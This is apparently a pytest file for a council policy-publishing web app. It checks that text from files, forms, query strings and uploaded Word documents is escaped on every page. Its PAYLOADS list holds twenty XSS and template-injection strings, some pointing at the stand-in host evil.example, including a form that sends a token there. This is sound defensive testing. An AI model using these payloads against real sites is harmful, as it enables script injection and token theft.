"""What others wrote stays words: twenty ways to smuggle a script in, in every field that a page shows."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from tests.conftest import ROOT
from tests.desk.visitor import Visitor, copy_library

from policykit.desk.screens import SCREENS

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=token></form>",
    "<base href=http://evil.example/>",
    "{{ visit.desk.keys.form }}{% raw %}",
    "{0.desk.keys} {visit} {count}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
)
GROUPS = tuple(" ".join(PAYLOADS[at::5]) for at in range(5))
"""All of them, four in a field: a page takes no longer with four than with one."""
_TAGS = (
    "html head meta title link body a header div span nav ul li main h1 h2 h3 p table caption thead tbody tr th td "
    "strong form input button footer ol dl dt dd details summary fieldset legend label select option code textarea "
    "iframe img section noscript dialog script template del ins br"
)
CLAUSE, RULED = "introduction.overview", "policy-statement.sensible-use"
OURS = frozenset(_TAGS.split())
"""Every tag that a page of the desk has."""
FIELDS = ("body", "reference", "changes", "note", "by", "date-day", "event", "version", "council", "policy", "title")


class _Reader(HTMLParser):
    """Finds what no page of the desk has."""

    def __init__(self, base: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self._base = base
        self._is_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] if tag not in OURS else []
        self._is_script = tag == "script"
        if tag == "script" and not {("type", "module"), ("type", "application/json")} & set(attrs):
            self.found.append("script")
        for name, value in attrs:
            own = (value or "").startswith((self._base, "/static/", "#"))
            if name.startswith("on") or name == "style" or (name in ("href", "src", "action") and not own):
                self.found.append(f"{tag} {name}={value}")
            if name == "http-equiv":
                self.found.append(name)

    def handle_data(self, data: str) -> None:
        if self._is_script and data:
            self.found += ["<"] if "<" in data else []
            try:
                json.loads(data)  # what a script reads, and no script
            except ValueError:
                self.found.append("script")

    def handle_endtag(self, _tag: str) -> None:
        self._is_script = False


def find_foreign(page: str, base: str) -> list[str]:
    """Give every tag and attribute of a page that is not the desk's own."""
    reader = _Reader(base)
    reader.feed(page)
    return reader.found


def spoil(library: Path, payload: str) -> None:
    """Put a payload into every field that a page of the desk may show."""
    quoted = json.dumps(payload)
    policy = library / "congleton" / "social-media"
    replace_line(policy / "v1.yaml", r"^title: .*", f"title: {quoted}")
    replace_line(policy / "v1.yaml", r"^        text: .*", f"        text: {quoted}")
    replace_line(library / "congleton" / "council.yaml", r"^name: .*", f"name: {quoted}")
    replace_line(library / "topics.yaml", r"^    title: .*", f"    title: {quoted}")
    register = library / "crewe" / "social-media" / "register.yaml"
    register.write_text(register.read_text("utf-8").replace("body: Council", f"body: {quoted}"), "utf-8")


def replace_line(path: Path, pattern: str, line: str) -> None:
    """Replace the first line that fits."""
    text = path.read_text("utf-8")
    new = re.sub(pattern, lambda _: line, text, count=1, flags=re.MULTILINE)
    assert new != text, path
    path.write_text(new, "utf-8")


def list_addresses() -> Iterator[str]:
    """Give every address at which something is shown."""
    for screen in SCREENS:
        for council in ("congleton", "crewe") if "{council}" in screen.path else ("",):
            words = {
                "council": council,
                "policy": "social-media",
                "clause": CLAUSE,
                "form": "docx",
                "key": "x",
            }
            if screen.show is not None:
                yield screen.path.format(**words)


@pytest.mark.parametrize("payload", GROUPS)
def test_words_of_the_files_stay_words(tmp_path: Path, payload: str) -> None:
    visitor = Visitor(copy_library(tmp_path), tmp_path / "build")
    spoil(visitor.desk.root, payload)
    for address in list_addresses():
        if address.endswith("/preview") and payload != GROUPS[0]:
            continue  # a PDF takes its time, and is no page of the desk
        answer = visitor.get(address)
        assert answer.status_code < 500, address
        if "sandbox" in answer.headers["content-security-policy"]:
            assert "allow-scripts" not in answer.headers["content-security-policy"]
        elif answer.headers["content-type"].startswith("text/html"):
            assert find_foreign(answer.text, visitor.desk.base) == [], address


@pytest.mark.parametrize("payload", GROUPS)
def test_words_that_are_sent_stay_words(visitor_of_all: Visitor, payload: str) -> None:
    visitor = visitor_of_all
    for screen in SCREENS:
        if screen.take is None or screen.path in ("/close", "/site", "/policies/{council}/{policy}/publish"):
            continue
        words = {"council": "congleton", "policy": "social-media", "key": "x", "clause": CLAUSE}
        form = {**dict.fromkeys(FIELDS, payload), "version": "1"}
        answer = visitor.send(screen.path.format(**words), form, {"file": (f"{payload}.docx", b"x")})
        assert answer.status_code < 500, screen.path
        assert find_foreign(answer.text, visitor.desk.base) == [], screen.path
        shown = visitor.get(
            f"{screen.path.format(**words)}?version={payload}&event={payload}&done={payload}&day-day={payload}"
        )
        assert find_foreign(shown.text, visitor.desk.base) == [], screen.path


@pytest.fixture(scope="module")
def visitor_of_all(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visitor]:
    place = tmp_path_factory.mktemp("all")
    visitor = Visitor(copy_library(place), place / "build")
    yield visitor
    visitor.desk.close()


SPOILT = """<p title="{0}">{0}</p><p title='{0}'>{0}</p>"""


def test_the_reader_of_pages_sees_every_payload() -> None:
    """What would not be seen in a page that lets it through is tried in vain."""
    unseen = [payload for payload in PAYLOADS if not find_foreign(SPOILT.format(payload), "/base")]
    assert unseen == ["{{ visit.desk.keys.form }}{% raw %}", "{0.desk.keys} {visit} {count}", PAYLOADS[18]]


def make_docx(words: str) -> bytes:
    """Give a Word file whose paragraphs are a payload."""
    from xml.sax.saxutils import escape

    out = BytesIO()
    with ZipFile(ROOT / "examples" / "clerk" / "leave-policy.docx") as source, ZipFile(out, "w") as target:
        for name in source.namelist():
            content = source.read(name).decode("utf-8", "surrogateescape")
            if name == "word/document.xml":
                content = content.replace("Purpose", escape(words)).replace("LEAVE POLICY", escape(words))
                content = content.replace("Leave must", f"{escape(words)} must")
            target.writestr(name, content.encode("utf-8", "surrogateescape"))
    return out.getvalue()


@pytest.mark.parametrize("payload", GROUPS)
def test_words_of_a_word_file_stay_words(visitor_of_all: Visitor, payload: str) -> None:
    visitor = visitor_of_all
    answer = visitor.send("/bring-in", {"council": "crewe"}, {"file": ("leave.docx", make_docx(payload))})
    shown = visitor.get(answer.headers["location"]) if answer.status_code == 303 else answer
    assert shown.status_code in (200, 422)
    assert find_foreign(shown.text, visitor.desk.base) == []


def test_an_adopted_version_is_changed_by_no_address(tmp_path: Path) -> None:
    """Every form of the desk is sent for the version that is in force, filled in every way that it may be."""
    visitor = Visitor(copy_library(tmp_path), tmp_path / "build")
    folder = visitor.desk.root / "crewe" / "social-media"
    files = (folder / "v1.yaml", folder / "adopted" / "v1.json")
    before = [path.read_bytes() for path in files]
    date = {"date-day": "1", "date-month": "11", "date-year": "2026"}
    forms: tuple[dict[str, str | list[str]], ...] = (
        {},
        {"version": "1", **date, "event": "reviewed", "reference": "1/1"},
        {"version": "1", **date, "event": "amended", "reference": "1/1", "changes": "All of it"},
        {"version": "1", **date, "event": "withdrawn"},
        {"version": "1", **date, "reference": "1/1", "seen": "0" * 64, "sure": "yes", "amended": "yes"},
        {"version": "2", **date, "reference": "1/1", "sure": "yes"},
        {"council": "crewe", "policy": "social-media", "bring": "yes"},
        {"count": "3"},
        {"record": "post", "asked": "author", "answer": "councillor"},
        {"version": "1", "rule": f"{RULED}.harm", "status": "draft", "by": "A. Clerk"},
    )
    word = {"file": ("v1.docx", (ROOT / "examples" / "clerk" / "leave-policy.docx").read_bytes())}
    for screen in SCREENS:
        if screen.take is None or screen.path == "/close":
            continue
        for form in forms[:2] if screen.path.endswith(("/publish", "/site")) else forms:  # a PDF takes its time
            address = screen.path.format(council="crewe", policy="social-media", key="x", clause=RULED)
            answer = visitor.send(address, form, word)
            assert answer.status_code < 500, (screen.path, form)
            assert [path.read_bytes() for path in files] == before, (screen.path, form)
